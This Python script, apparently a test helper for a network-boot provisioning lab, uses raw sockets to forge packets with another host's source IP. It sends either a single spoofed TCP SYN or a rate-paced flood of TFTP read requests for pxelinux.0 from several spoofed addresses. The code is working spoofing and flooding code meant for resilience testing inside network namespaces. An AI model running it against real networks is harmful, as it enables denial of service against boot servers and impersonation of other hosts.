#!/usr/bin/env python3
"""A host on the provisioning LAN that lies: frames with another host's source address, sent from its own NIC
(its own source MAC, as a real attacker's NIC sends them), no scapy.

usage: spoof.py syn IFACE --src-ip IP --dst-ip IP --dst-mac MAC --dport PORT
           One TCP SYN in the name of --src-ip.
       spoof.py tftp-flood IFACE --src-ip IP[,IP...] --dst-ip IP --dst-mac MAC --count N [--rate R] [--file F]
           N TFTP read requests for F (default pxelinux.0) to --dst-ip:69, in the names of the --src-ip
           addresses in turn, each from a new source port, paced at R per second (default 10000). Prints
           "sent N in S s".
Run it inside the namespace of IFACE (ip netns exec NS spoof.py ...).
"""
import argparse
import os
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.realpath(__file__)))
from dhcp_send import checksum, interface_mac  # noqa: E402

ETH_P_IP = 0x0800


def ipv4(src, dst, proto, l4):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), 0x4242, 0x4000, 64, proto, 0,
                       socket.inet_aton(src), socket.inet_aton(dst))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + l4


def pseudo(src, dst, proto, length):
    return socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, proto, length)


def tcp_syn(src, dst, sport, dport):
    seg = struct.pack("!HHIIBBHHH", sport, dport, 0x1000, 0, 5 << 4, 0x02, 0xFFFF, 0, 0)
    csum = checksum(pseudo(src, dst, socket.IPPROTO_TCP, len(seg)) + seg)
    return ipv4(src, dst, socket.IPPROTO_TCP, seg[:16] + struct.pack("!H", csum) + seg[18:])


def udp(src, dst, sport, dport, payload):
    length = 8 + len(payload)
    dgram = struct.pack("!HHHH", sport, dport, length, 0) + payload
    csum = checksum(pseudo(src, dst, socket.IPPROTO_UDP, length) + dgram) or 0xFFFF
    return ipv4(src, dst, socket.IPPROTO_UDP, dgram[:6] + struct.pack("!H", csum) + dgram[8:])


def opened(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    return s


def ethernet(dst_mac, src_mac, packet):
    return bytes.fromhex(dst_mac.replace(":", "")) + src_mac + struct.pack("!H", ETH_P_IP) + packet


def main():
    p = argparse.ArgumentParser()
    p.add_argument("mode", choices=["syn", "tftp-flood"])
    p.add_argument("iface")
    p.add_argument("--src-ip", required=True)
    p.add_argument("--dst-ip", required=True)
    p.add_argument("--dst-mac", required=True)
    p.add_argument("--dport", type=int, default=22)
    p.add_argument("--count", type=int, default=1)
    p.add_argument("--rate", type=int, default=10000)
    p.add_argument("--file", default="pxelinux.0")
    a = p.parse_args()
    s = opened(a.iface)
    mac = interface_mac(a.iface)
    if a.mode == "syn":
        s.send(ethernet(a.dst_mac, mac, tcp_syn(a.src_ip, a.dst_ip, 40000, a.dport)))
        print(f"sent a SYN from {a.src_ip}:40000 to {a.dst_ip}:{a.dport}")
        return
    sources = a.src_ip.split(",")
    request = b"\x00\x01" + a.file.encode() + b"\x00octet\x00"
    started = time.monotonic()
    burst = max(1, a.rate // 100)  # paced in bursts every 10 ms
    for i in range(a.count):
        sport = 1024 + (i * 7919) % 64000  # spread over the port range
        s.send(ethernet(a.dst_mac, mac, udp(sources[i % len(sources)], a.dst_ip, sport, 69, request)))
        if (i + 1) % burst == 0:
            ahead = started + (i + 1) / a.rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
    print(f"sent {a.count} in {time.monotonic() - started:.1f} s")


if __name__ == "__main__":
    main()
